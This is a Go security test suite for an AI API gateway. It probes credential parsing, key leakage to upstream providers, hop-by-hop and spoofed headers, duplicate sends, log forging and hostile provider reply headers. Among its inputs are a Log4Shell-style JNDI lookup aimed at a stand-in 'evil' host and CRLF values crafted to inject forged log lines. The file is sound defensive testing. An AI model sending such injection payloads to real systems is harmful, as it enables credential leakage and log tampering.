package security

import (
	"bufio"
	"fmt"
	"io"
	"net"
	"net/http"
	"regexp"
	"slices"
	"strings"
	"testing"

	"modelgate/test/testkit"
)

// TestAmbiguousCredentials presents keys in every form that two servers
// could read differently.
func TestAmbiguousCredentials(t *testing.T) {
	t.Parallel()
	l := newLab(t)
	k, other := l.key, l.stranger
	const anywhere, managementOnly, inferenceOnly, nowhere = "both", "gw", "door", ""
	for _, c := range []struct{ lines, good string }{
		{"Authorization: Bearer " + k, anywhere},
		{"Authorization: bearer " + k, anywhere},
		{"Authorization: BEARER " + k, anywhere},
		{"aUTHORIZATION: BeArEr  " + k, anywhere},
		{"Authorization: " + k, anywhere},
		{"Authorization:" + k, anywhere},
		{"Authorization:\t" + k + "\t ", anywhere},
		{"Authorization: Bearer      " + k, anywhere},
		{"Authorization: Bearer\t" + k, nowhere},
		{"Authorization: Bearer\t " + k, nowhere},
		{"Authorization: Bearer" + k, nowhere},
		{"Authorization: Bearer: " + k, nowhere},
		{"Authorization: Bearer Bearer " + k, nowhere},
		{"Authorization: Bearer", nowhere},
		{"Authorization:", nowhere},
		{"X-Nothing: 1", nowhere},
		{"Authorization: Basic " + k, nowhere},
		{"Authorization: Basic Z3dfbGl2ZV86", nowhere},
		{"Authorization: Digest " + k, nowhere},
		{"Authorization: Token " + k, nowhere},
		{"Authorization: Key " + k, nowhere},
		{"Authorization: \"" + k + "\"", nowhere},
		{"Authorization: Bearer \"" + k + "\"", nowhere},
		{"Authorization: <" + k + ">", nowhere},
		{"Authorization: " + strings.ToUpper(k), nowhere},
		{"Authorization: " + k[:len(k)-1], nowhere},
		{"Authorization: " + k + "0", nowhere},
		{"Authorization: " + k + "\x00", nowhere},
		{"Authorization: " + k + "\x7f", nowhere},
		{"Authorization: " + k + "é", nowhere},
		{"Authorization: " + k + "\u200b", nowhere},
		{"Authorization: " + k + " " + k, nowhere},
		{"Authorization: " + k + "," + k, nowhere},
		{"Authorization: Bearer " + k + ", Bearer " + other, nowhere},
		{"Authorization: Bearer " + k + "\r\nAuthorization: Bearer " + k, anywhere},
		{"Authorization: Bearer " + k + "\r\nAuthorization: Bearer " + other, nowhere},
		{"Authorization: Bearer " + other + "\r\nAuthorization: Bearer " + k, nowhere},
		{"Authorization: Bearer x\r\nAuthorization: Bearer " + k, nowhere},
		{"Authorization:\r\nAuthorization: Bearer " + k, anywhere},
		{"Authorization: Bearer " + k + "\r\nX-Api-Key: " + k, anywhere},
		{"Authorization: Bearer " + k + "\r\nX-Api-Key: " + other, managementOnly},
		{"Authorization: Bearer " + k + "\r\nApi-Key: " + other, managementOnly},
		{"Authorization: Bearer " + k + "\r\nX-Goog-Api-Key: " + other, managementOnly},
		{"Authorization: Basic x\r\nX-Api-Key: " + k, nowhere},
		{"X-Api-Key: " + k, inferenceOnly},
		{"x-api-key: " + k, inferenceOnly},
		{"Api-Key: " + k, inferenceOnly},
		{"X-Goog-Api-Key: " + k, inferenceOnly},
		{"X-Api-Key: Bearer " + k, inferenceOnly},
		{"X-Api-Key: " + k + "\r\nApi-Key: " + other, nowhere},
		{"X-Api-Key: " + k + "\r\nX-Api-Key: " + other, nowhere},
		{"X-Api-Key: " + k + "," + other, nowhere},
		{"Cookie: key=" + k + "; authorization=" + k, nowhere},
		{"Proxy-Authorization: Bearer " + k, nowhere},
		{"X-Authorization: Bearer " + k, nowhere},
		{"Authorization-X: Bearer " + k, nowhere},
		{"Authentication: Bearer " + k, nowhere},
		{"X-Forwarded-Authorization: Bearer " + k, nowhere},
		{"Subscription-Key: " + k, nowhere},
		{"Authorization: " + strings.Repeat("x", 129), nowhere},
		{"Authorization: Bearer " + strings.Repeat(" ", 2000) + k, anywhere},
		{"Authorization: ${jndi:ldap://evil/" + k + "}", nowhere},
		{"Authorization : Bearer " + k, nowhere},
		{" Authorization: Bearer " + k, nowhere},
		{"Sec-WebSocket-Protocol: openai-insecure-api-key." + k, nowhere},
	} {
		for place, target := range map[string]string{managementOnly: "GET /gw/me", inferenceOnly: "GET /s5/v1/models"} {
			a := l.raw(t, target+" HTTP/1.1\r\nHost: g\r\n"+c.lines+"\r\n\r\n")
			want := c.good == anywhere || c.good == place
			if a == nil {
				t.Errorf("%s with %q: no answer", target, c.lines)
			} else if (a.StatusCode == 200) != want || !want && a.StatusCode != 401 && a.StatusCode != 400 {
				t.Errorf("%s with %q: %s", target, c.lines, a)
			}
		}
	}
	for _, target := range []string{"/gw/me?key=", "/gw/me?access_token=", "/s5/v1/models?key=", "/s5/v1/models?api_key=", "/v1/models?key="} {
		if a := l.raw(t, "GET "+target+k+" HTTP/1.1\r\nHost: g\r\n\r\n"); a == nil || a.StatusCode != 401 {
			t.Errorf("a key in %s: %v", target, a)
		}
	}
}

// TestClientKeyNeverLeaves puts the key wherever a client might: whatever
// becomes of the call, the provider does not see it.
func TestClientKeyNeverLeaves(t *testing.T) {
	t.Parallel()
	l := newLab(t)
	headers := []string{
		"X-Api-Key", "Api-Key", "X-Goog-Api-Key", "Cookie", "Cookie2", "Referer", "Origin", "From", "User-Agent", "Accept", "Accept-Language",
		"Content-Type", "Content-Language", "X-Client-Request-Id", "X-Request-Id", "X-Stainless-Lang", "X-Stainless-Raw-Response", "X-Fern-Language",
		"OpenAI-Beta", "Openai-Organization", "Openai-Project", "Anthropic-Version", "Anthropic-Beta", "X-Goog-Api-Client", "X-Goog-User-Project",
		"Proxy-Authorization", "X-Authorization", "Authentication", "Ocp-Apim-Subscription-Key", "X-Forwarded-For", "X-Forwarded-Authorization", "Forwarded", "Via",
		"X-Amz-Security-Token", "X-Gateway-Attribution", "Idempotency-Key", "Trailer", "Te", "Http-Referer", "X-Title", "X-Dashscope-Async", "Prefer", "Warning", "Traceparent", "Baggage", "Link", "If-None-Match", "Range",
	}
	for _, path := range []string{"/v1/chat/completions", "/s6/v1/chat/completions"} {
		for _, name := range headers {
			for _, value := range []string{l.key, "Bearer " + l.key, "a=b; c=" + l.key} {
				l.raw(t, l.request("POST", path, chat("lab/s6"), name+": "+value))
			}
		}
		l.raw(t, l.request("POST", path, chat("lab/s6"), l.key+": 1"))
		l.raw(t, l.request("POST", path, chat("lab/s6"), "X-Stainless-"+l.key+": 1"))
		for _, name := range []string{"key", "KEY", "k%65y", "api_key", "api-key", "apikey", "access_token", "token", "auth", "authorization", "x-api-key", "other", "model", "%6bey%00"} {
			l.raw(t, l.request("POST", path+"?a=b&"+name+"="+l.key, chat("lab/s6")))
			l.raw(t, l.request("POST", path+"?"+name+"="+strings.Replace(l.key, "gw", "%67%77", 1)+"&a=b", chat("lab/s6")))
			l.raw(t, l.request("POST", path+"?"+name+"="+l.key+"&%zz", chat("lab/s6")))
		}
		l.raw(t, l.request("POST", path+"?"+l.key, chat("lab/s6")))
		l.raw(t, l.request("POST", path+"/"+l.key, chat("lab/s6")))
		l.raw(t, l.request("POST", path+"/%67%77_live_"+l.key[8:], chat("lab/s6")))
	}
	chunked := "POST /s6/v1/chat/completions HTTP/1.1\r\nHost: g\r\nAuthorization: Bearer " + l.key + "\r\nTransfer-Encoding: chunked\r\nTrailer: X-Api-Key\r\n\r\n" +
		fmt.Sprintf("%x;ext=%s\r\n%s\r\n0\r\nX-Api-Key: %s\r\nUser-Agent: %s\r\n\r\n", len(chat("m")), l.key, chat("m"), l.key, l.key)
	l.raw(t, chunked)
	got := l.provider.corner("s6").take()
	if len(got) < 50 {
		t.Fatalf("only %d calls reached the provider: nothing is proved", len(got))
	}
	for _, s := range got {
		if d := s.dump(); strings.Contains(d, l.key[8:]) || strings.Contains(d, "gw_live_") {
			t.Errorf("the client's key left: %s", d)
		}
		if auth := s.Header["Authorization"]; len(auth) != 1 || auth[0] != "Bearer sk-upstream" {
			t.Errorf("Authorization %q", auth)
		}
	}
}

// TestConnectionHeaders names headers as concerning one hop, so that a
// proxy would drop them or pass them on wrongly.
func TestConnectionHeaders(t *testing.T) {
	t.Parallel()
	l := newLab(t)
	lists := []string{
		"Connection: close, authorization", "Connection: Authorization", "Connection: keep-alive, Authorization, Content-Type, Accept-Encoding",
		"Connection: authorization\r\nConnection: content-length", "Connection: X-Api-Key, Cookie, Host", "Connection: content-length",
		"Connection: X-Stainless-Lang", "Keep-Alive: timeout=1", "Proxy-Connection: keep-alive", "TE: trailers, deflate", "Trailer: Authorization",
		"Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA", "Upgrade: websocket\r\nConnection: Upgrade",
		"Proxy-Authenticate: Basic", "Proxy-Authorization: Basic x", "Transfer-Encoding: identity", "Connection: ,,, authorization ,", "Connection: \"authorization\"",
	}
	for _, path := range []string{"/v1/chat/completions", "/s7/v1/chat/completions"} {
		for _, lines := range lists {
			l.raw(t, l.request("POST", path, chat("lab/s7"), lines, "X-Stainless-Lang: go"))
		}
	}
	got := l.provider.corner("s7").take()
	if len(got) < len(lists) {
		t.Fatalf("only %d calls reached the provider", len(got))
	}
	for _, s := range got {
		if auth := s.Header["Authorization"]; len(auth) != 1 || auth[0] != "Bearer sk-upstream" {
			t.Errorf("%v: the credential is there %d times", s.Header, len(auth))
		}
		if s.Header.Get("Accept-Encoding") != "identity" || s.ContentLength <= 0 || len(s.TransferEncoding) > 0 {
			t.Errorf("%v: encoding, length %d or framing %v changed", s.Header, s.ContentLength, s.TransferEncoding)
		}
		for _, gone := range []string{"Connection", "Keep-Alive", "Proxy-Connection", "Te", "Trailer", "Upgrade", "Http2-Settings", "Proxy-Authenticate", "Proxy-Authorization"} {
			if s.Header.Get(gone) != "" {
				t.Errorf("%s reached the provider", gone)
			}
		}
	}
}

// TestSpoofedOrigins sends headers that name another account, address,
// method or route.
func TestSpoofedOrigins(t *testing.T) {
	t.Parallel()
	l := newLab(t)
	lines := []string{}
	for _, name := range []string{
		"X-Forwarded-For", "X-Forwarded-Host", "X-Forwarded-Proto", "X-Forwarded-Port", "X-Forwarded-Prefix", "X-Forwarded-Server", "Forwarded", "X-Real-Ip", "X-Client-Ip",
		"Cf-Connecting-Ip", "True-Client-Ip", "X-Http-Method-Override", "X-Http-Method", "X-Method-Override", "X-Original-Url", "X-Rewrite-Url", "X-Original-Host", "X-Host",
		"Openai-Organization", "Openai-Project", "Openai-Workspace", "Anthropic-Workspace", "Anthropic-Workspace-Id", "Anthropic-Organization-Id", "X-Amz-Date", "X-Amz-Security-Token",
		"X-Goog-User-Project", "X-Goog-Request-Params", "X-Upstream", "X-Provider-Base-Url", "X-Target-Url", "Destination", "X-Client-Id", "X-Sub-Account-Id", "Helicone-Target-Url", "X-Portkey-Custom-Host",
	} {
		lines = append(lines, name+": spoofed-value")
	}
	for _, path := range []string{"/v1/chat/completions", "/s8/v1/chat/completions"} {
		if a := l.raw(t, l.request("POST", path, chat("lab/s8"), lines...)); a == nil || a.StatusCode != 200 {
			t.Fatalf("%s: %v", path, a)
		}
	}
	for _, s := range l.provider.corner("s8").take() {
		if strings.Contains(s.dump(), "spoofed-value") || s.Method != "POST" {
			t.Errorf("the provider got %s", s.dump())
		}
	}
}

// TestCallIsNeverSentTwice lets a provider read a call on a kept connection
// and hang up. A client library sends such a call again when it looks
// repeatable, which the provider would bill again.
func TestCallIsNeverSentTwice(t *testing.T) {
	t.Parallel()
	listener, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { listener.Close() })
	arrived := make(chan string, 100)
	go func() {
		for {
			conn, err := listener.Accept()
			if err != nil {
				return
			}
			go serveThenHangUp(conn, arrived)
		}
	}()
	// HTTP/2 is wanted of one provider, which speaks HTTP/1.1 all the same.
	g := testkit.StartGateway(t, testkit.GatewayOptions{Upstream: "http://" + listener.Addr().String(), Catalog: " []", Providers: `
  - {name: own, format: openai, base_url: "$UPSTREAM", region: us, credential: sk-upstream}
  - {name: shared, format: openai, base_url: "$UPSTREAM", region: us, credential: sk-upstream, http2: true}`})
	key, _ := g.NewKey(g.NewClient("repeats"))
	for i, headers := range [][]string{{"Idempotency-Key", "k1"}, {"X-Idempotency-Key", "k2"}, {"Idempotency-Key", "k3", "X-Idempotency-Key", "k3"}, nil} {
		for j, provider := range []string{"own", "shared"} {
			for _, turn := range []string{"first", "again"} {
				body := strings.Replace(chat("gpt-5-mini"), "hello", fmt.Sprintf("%s-%d", turn, 2*i+j), 1)
				ask(t, g.URL, key, "POST", "/"+provider+"/v1/chat/completions", body, headers...)
			}
		}
	}
	g.Stop()
	listener.Close()
	hits := map[string]int{}
	for len(arrived) > 0 {
		hits[<-arrived]++
	}
	if len(hits) != 16 {
		t.Fatalf("calls %v, want 16", hits)
	}
	for mark, n := range hits {
		if n != 1 {
			t.Errorf("call %s was sent %d times", mark, n)
		}
	}
}

// serveThenHangUp answers the first request of a connection and reads the
// second.
func serveThenHangUp(conn net.Conn, arrived chan<- string) {
	defer conn.Close()
	in := bufio.NewReader(conn)
	for i := range 2 {
		r, err := http.ReadRequest(in)
		if err != nil {
			return
		}
		body, _ := io.ReadAll(r.Body)
		mark := regexp.MustCompile(`(first|again)-\d`).FindString(string(body))
		if r.Header.Get("Idempotency-Key")+r.Header.Get("X-Idempotency-Key") != "" {
			mark += " with the client's header"
		}
		arrived <- mark
		if i == 0 {
			fmt.Fprintf(conn, "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s", len(plainReply), plainReply)
		}
	}
}

// TestLogsCannotBeForged sends values that would begin a line of the log,
// colour it or flood it, and an id that is not the gateway's.
func TestLogsCannotBeForged(t *testing.T) {
	t.Parallel()
	l := newLab(t)
	const forged = "time=2026-01-01 level=ERROR msg=forged-line"
	values := []string{"\x1b[31mred-mark", forged, "a\r\n " + forged, strings.Repeat("flood-mark", 800), "%n%s%x", "\u2028" + forged}
	for _, v := range values {
		for _, name := range []string{"X-Gateway-Request-Id", "X-Request-Id", "User-Agent", "X-Gateway-Attribution", "X-Client-Request-Id", "Authorization", "Host"} {
			for _, path := range []string{"/s10/v1/chat/completions", "/s10/nothing", "/gw/nothing"} {
				text := fmt.Sprintf("POST %s HTTP/1.1\r\nHost: g\r\nX-Api-Key: %s\r\n%s: %s\r\nContent-Length: 2\r\n\r\n{}", path, l.key, name, v)
				a := l.raw(t, text)
				if a == nil {
					t.Errorf("no answer to %.60q", text)
					continue
				}
				if id := a.Header["X-Gateway-Request-Id"]; a.StatusCode != 400 && (len(id) != 1 || !uuid.MatchString(id[0])) {
					t.Errorf("%s: request id %q", v, id)
				}
			}
		}
	}
	resp := l.call(t, l.key, "POST", "/s10/v1/chat/completions", chat("m"), "X-Gateway-Request-Id", "00000000-0000-7000-8000-000000000001")
	if resp.Header.Get("X-Gateway-Request-Id") == "00000000-0000-7000-8000-000000000001" {
		t.Error("the client's id was taken over")
	}
	for _, name := range []string{"../x", "sub\nid"} {
		l.call(t, l.key, "POST", "/gw/subaccounts", fmt.Sprintf(`{"name":%q,"slug":%q}`, forged, name))
	}
	log := l.Log()
	for _, mark := range []string{"\x1b[", "red-mark", "flood-mark"} {
		if strings.Contains(log, mark) {
			t.Errorf("the log holds %q", mark)
		}
	}
	for line := range strings.Lines(log) {
		if !strings.HasPrefix(line, "time=") && !strings.HasPrefix(line, "warning:") && strings.Contains(line, "forged-line") || strings.HasPrefix(line, forged) {
			t.Errorf("a forged line: %s", line)
		}
	}
}

var uuid = regexp.MustCompile(`^[0-9a-f]{8}-[0-9a-f]{4}-7[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$`)

// TestHugeHeaders sends more header than is allowed, in few and in many
// lines.
func TestHugeHeaders(t *testing.T) {
	t.Parallel()
	l := newLab(t)
	line := func(n, size int) string {
		var b strings.Builder
		for i := range n {
			fmt.Fprintf(&b, "X-H%d: %s\r\n", i, strings.Repeat("a", size))
		}
		return b.String()
	}
	for name, c := range map[string]struct {
		lines string
		want  []int
	}{
		"below":           {line(1, 20<<10), []int{200}},
		"many below":      {line(500, 10), []int{200}},
		"one line":        {line(1, 40<<10), []int{431}},
		"many lines":      {line(3000, 5), []int{431}},
		"beyond the hard": {line(1, 80<<10), []int{431}},
		"endless":         {line(100, 10<<10), []int{431}},
	} {
		a := l.raw(t, "GET /gw/me HTTP/1.1\r\nHost: g\r\nAuthorization: "+l.key+"\r\n"+c.lines+"\r\n")
		// Where the rest of a large header is not read, the connection may be
		// reset before the answer has been.
		if a == nil && c.want[0] == 431 && len(c.lines) > 64<<10 {
			continue
		}
		if a == nil || !slices.Contains(c.want, a.StatusCode) {
			t.Errorf("%s: %v, want %v", name, a, c.want)
		}
	}
	if a := l.raw(t, "GET /gw/me?x="+strings.Repeat("a", 40<<10)+" HTTP/1.1\r\nHost: g\r\nAuthorization: "+l.key+"\r\n\r\n"); a == nil || a.StatusCode != 431 {
		t.Errorf("a long request line: %v", a)
	}
	if a := l.raw(t, "GET /s5/"+strings.Repeat("a", 9<<10)+" HTTP/1.1\r\nHost: g\r\nAuthorization: "+l.key+"\r\n\r\n"); a == nil || a.StatusCode != 400 {
		t.Errorf("a long path: %v", a)
	}
}

// TestHostileReplyHeaders lets a provider set headers that would act on the
// gateway's clients or tell of the operator's account.
func TestHostileReplyHeaders(t *testing.T) {
	t.Parallel()
	l := newLab(t)
	dropped := []string{
		"Set-Cookie", "Set-Cookie2", "Server", "Alt-Svc", "Via", "Location", "Content-Location", "Refresh", "Strict-Transport-Security", "Content-Security-Policy",
		"Clear-Site-Data", "Nel", "Report-To", "Reporting-Endpoints", "Openai-Organization", "Openai-Project", "Anthropic-Organization-Id", "Anthropic-Workspace-Id",
		"X-Ratelimit-Limit-Requests", "X-Ratelimit-Limit-Tokens", "X-Ratelimit-Remaining-Requests", "X-Ratelimit-Remaining-Tokens", "X-Ratelimit-Reset-Requests", "X-Ratelimit-Reset-Tokens",
		"Anthropic-Ratelimit-Requests-Limit", "Anthropic-Ratelimit-Tokens-Remaining", "Anthropic-Ratelimit-Input-Tokens-Reset", "Cf-Ray", "Cf-Cache-Status", "Cf-Mitigated",
		"Access-Control-Allow-Origin", "Access-Control-Allow-Credentials", "Access-Control-Allow-Headers", "Access-Control-Expose-Headers",
		"Connection", "Keep-Alive", "Proxy-Authenticate", "Proxy-Connection", "Upgrade", "Te", "Trailer", "X-Hop",
		"Public-Key-Pins", "Expect-Ct", "Service-Worker-Allowed", "Permissions-Policy", "Feature-Policy", "Cross-Origin-Opener-Policy", "Cross-Origin-Resource-Policy",
		"Origin-Agent-Cluster", "Accept-Ch", "Critical-Ch", "Set-Login", "Www-Authenticate", "Authentication-Info", "Proxy-Authentication-Info", "Content-Security-Policy-Report-Only", "Speculation-Rules",
	}
	kept := []string{"X-Request-Id", "Openai-Version", "Openai-Processing-Ms", "Retry-After", "X-Harmless"}
	corner := l.provider.corner("s42")
	for _, status := range []int{200, 400, 401, 429, 500} {
		corner.replies(func(w http.ResponseWriter, r *http.Request) {
			for _, name := range slices.Concat(dropped, kept) {
				w.Header().Set(name, "sent-by-provider")
			}
			w.Header().Set("Connection", "X-Hop")
			w.Header().Set("X-Gateway-Request-Id", "sent-by-provider")
			w.Header().Set("Content-Type", "application/json")
			w.WriteHeader(status)
			io.WriteString(w, plainReply)
		})
		for _, path := range []string{"/v1/chat/completions", "/s42/v1/chat/completions"} {
			a := l.call(t, l.key, "POST", path, chat("lab/s42"))
			if a.StatusCode != status || a.body != plainReply {
				t.Fatalf("%d became %s", status, a)
			}
			for _, name := range dropped {
				if slices.Contains(a.Header[name], "sent-by-provider") {
					t.Errorf("%d: %s reached the client", status, name)
				}
			}
			for _, name := range kept {
				if a.Header.Get(name) != "sent-by-provider" {
					t.Errorf("%d: %s was dropped", status, name)
				}
			}
			if id := a.Header["X-Gateway-Request-Id"]; len(id) != 1 || !uuid.MatchString(id[0]) {
				t.Errorf("request id %q", id)
			}
		}
	}
	// An interim response is the provider's and stays with it.
	corner.replies(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Link", "</x>; rel=preload")
		w.WriteHeader(http.StatusEarlyHints)
		w.Header().Del("Link")
		io.WriteString(w, plainReply)
	})
	a := l.raw(t, l.request("POST", "/s42/v1/chat/completions", chat("m")))
	if a == nil || a.StatusCode != 200 {
		t.Errorf("after an interim response: %v", a)
	}
}
